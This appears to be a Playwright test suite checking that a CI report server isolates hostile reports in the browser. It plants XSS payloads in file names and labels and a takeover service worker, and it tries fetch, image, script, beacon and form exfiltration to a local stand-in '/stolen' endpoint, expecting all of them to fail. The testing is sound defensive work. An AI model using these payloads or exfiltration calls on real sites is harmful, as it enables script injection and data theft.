// A report is a program of whoever wrote the workflow: what it can do in a browser, and what it cannot.
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { test as watched, expect, look } from './watched';
import { ReportServer } from '../filing/report_server';
import { TARGET } from '../filing/places';

const DIRECTORY = path.join(TARGET, 'hostile');
const JOB = 'ci/7/1-test';
const NAMES = ['<img src=x onerror=alert(1)>', '"><script>alert(2)<', "' onmouseover='alert(3)", 'javascript:alert(4)', '\u202egnp.exe', 'new\nline'];

function plant(file: string, text: string): void {
  fs.mkdirSync(path.dirname(path.join(DIRECTORY, file)), { recursive: true });
  fs.writeFileSync(path.join(DIRECTORY, file), text);
}

const test = watched.extend<{}, { server: ReportServer; elsewhere: string }>({
  server: [
    async ({}, use) => {
      fs.rmSync(DIRECTORY, { recursive: true, force: true });
      plant(`${JOB}/html/index.html`, '<!doctype html><title>Hostile</title><link rel="icon" href="data:,"><p>report</p><template></template>');
      plant(`${JOB}/html/sw.js`, 'self.addEventListener("fetch", event => event.respondWith(new Response("TAKEN OVER")))');
      plant(`${JOB}/html/data/a.png`, '<script>alert(5)</script>');
      plant(`${JOB}/results.json`, '{"stats":{"unexpected":1}}');
      plant(`${JOB}/picture.xml`, '<?xml-stylesheet href="x"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(6)</script></html>');
      for (const name of NAMES) plant(`${name}/${name}/${name}/${name}`, '');
      const bad = '<script>alert(7)</script>"\'>';
      const label = { repository: bad, workflow: bad, workflow_job: bad, runner: bad, ref: bad, sha: bad, actor: bad, started: bad, run_attempt: bad };
      plant(`${JOB}/.runnerctl/started.json`, JSON.stringify(label));
      const server = await ReportServer.start(DIRECTORY);
      await use(server);
      server.stop();
    },
    { scope: 'worker' },
  ],
  // Somebody else's server on the same machine, which is another origin.
  elsewhere: [
    async ({}, use) => {
      const asked: string[] = [];
      const server = http.createServer((request, answer) => {
        asked.push(request.url!);
        answer.setHeader('content-type', 'text/html');
        answer.end('<script>localStorage.secret = "SECRET"</script>');
      });
      await new Promise<void>(done => server.listen(0, '127.0.0.1', done));
      await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
      server.closeAllConnections();
      server.close();
      expect(asked.filter(url => url.startsWith('/stolen'))).toEqual([]);
    },
    { scope: 'worker' },
  ],
  baseURL: async ({ server }, use) => use(`http://127.0.0.1:${server.port}`),
});

test('no name and no label runs on our own pages', async ({ page, problems }) => {
  const seen = new Set<string>();
  const open = ['/'];
  while (open.length > 0 && seen.size < 60) {
    const url = open.pop()!;
    if (seen.has(url)) continue;
    seen.add(url);
    await page.goto(url);
    expect(await page.locator('script, [onerror], [onmouseover], [onclick]').count()).toBe(0);
    for (const link of await page.getByRole('link').all()) {
      const next = new URL((await link.getAttribute('href'))!, page.url());
      expect(next.origin).toBe(new URL(page.url()).origin);
      if (next.pathname.endsWith('/') && !next.pathname.endsWith('/html/')) open.push(next.href);
    }
    if (url === '/') await look(page, 'hostile-names');
  }
  expect(seen.size).toBeGreaterThan(15);
  await page.goto(`/r/${JOB}/picture.xml`);
  await expect(page.locator('body')).toContainText('<script>');
  expect(problems).toEqual([]);
});

test('a report reaches no other origin, and takes over none of our pages', async ({ page, problems, elsewhere, baseURL }) => {
  await page.goto(`/r/${JOB}/html/`);
  const tried = await page.evaluate(async elsewhere => {
    const outcome = (attempt: Promise<unknown>) => attempt.then(() => 'done', error => error.name ?? 'refused');
    const loads = (element: HTMLElement, attributes: object) =>
      new Promise<string>(done => {
        Object.assign(element, attributes);
        element.onload = () => done('done');
        element.onerror = () => done('refused');
        document.body.append(element);
      });
    const frame = document.createElement('iframe');
    const framed = await loads(frame, { src: '/' });
    return {
      fetch: await outcome(fetch(`${elsewhere}/stolen`, { mode: 'no-cors' })),
      image: await loads(document.createElement('img'), { src: `${elsewhere}/stolen.png` }),
      script: await loads(document.createElement('script'), { src: `${elsewhere}/stolen.js` }),
      beacon: (navigator.sendBeacon(`${elsewhere}/stolen`, 'x'), 'sent or not, it does not arrive'),
      worker: await outcome(navigator.serviceWorker.register('sw.js', { scope: '/' })),
      // What it may do: take over its own directory.
      ownWorker: await outcome(navigator.serviceWorker.register('sw.js').then(worker => worker.unregister())),
      framed: `${framed}: ${frame.contentDocument?.querySelector('h1')?.textContent ?? 'nothing'}`,
      storage: String(localStorage.secret),
      // Of the same origin: what other reports and our pages say can be read, as every workflow can on the disk.
      reads: (await (await fetch('/')).text()).includes('Reports'),
      writes: (await fetch('/', { method: 'DELETE' })).status,
    };
  }, elsewhere);
  expect(tried).toMatchObject({
    fetch: 'TypeError',
    image: 'refused',
    script: 'refused',
    worker: 'SecurityError',
    ownWorker: 'done',
    framed: 'done: nothing',
    storage: 'undefined',
    reads: true,
    writes: 405,
  });
  const opened = page.waitForEvent('popup');
  await page.evaluate(() => void Object.assign(window, { ours: window.open('/') }));
  const ours = await opened;
  await expect(ours.getByRole('heading')).toHaveText('Reports');
  // The window is ours alone: the report has no hold of it.
  expect(await page.evaluate(() => (window as unknown as { ours: Window }).ours.closed)).toBe(true);
  expect(await ours.evaluate(() => window.opener)).toBeNull();
  await ours.goto(`${baseURL}/`);
  await expect(ours.getByRole('heading')).toHaveText('Reports');
  // The browser says why each was refused.
  expect(problems.length).toBeGreaterThan(3);
  problems.splice(0);
});

test('a report cannot send a form, nor be shown inside of another site', async ({ page, elsewhere, problems, baseURL }) => {
  await page.goto(`/r/${JOB}/html/`);
  await page.evaluate(elsewhere => {
    const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/stolen`, method: 'post' });
    document.body.append(form);
    form.submit();
  }, elsewhere);
  await expect.poll(() => problems.join()).toContain('form-action');
  await page.goto(elsewhere);
  await page.setContent(`<iframe src="${baseURL}/r/${JOB}/html/"></iframe>`);
  await expect.poll(() => problems.join()).toContain('frame-ancestors');
  problems.splice(0);
});

test('a name of their own keeps reports from the cookies of everything else on the host', async ({ page, server }) => {
  const at = (host: string) => `http://${host}:${server.port}/r/${JOB}/html/`;
  await page.goto(at('localhost'));
  await page.evaluate(() => void (document.cookie = 'login=SECRET'));
  await page.goto(at('reports.localhost'));
  expect(await page.evaluate(() => document.cookie)).toBe('');
  // What the trace viewer needs is there, too.
  expect(await page.evaluate(() => isSecureContext && 'serviceWorker' in navigator)).toBe(true);
});

test('what unpacks to gigabytes fills the tab of its reader, not the server', async ({ server, baseURL }) => {
  // 4 MiB of the same byte stand for what a zip inside of a report may hold: the server sends it as it is.
  plant(`${JOB}/bomb/index.html`, `<template>data:application/zip;base64,${'A'.repeat(4 << 20)}</template>`);
  const answer = await fetch(`${baseURL}/r/${JOB}/bomb/`);
  expect((await answer.arrayBuffer()).byteLength).toBeGreaterThan(4 << 20);
  expect(answer.headers.get('content-encoding')).toBeNull();
  expect(server.mebibytes()).toBeLessThan(100);
});
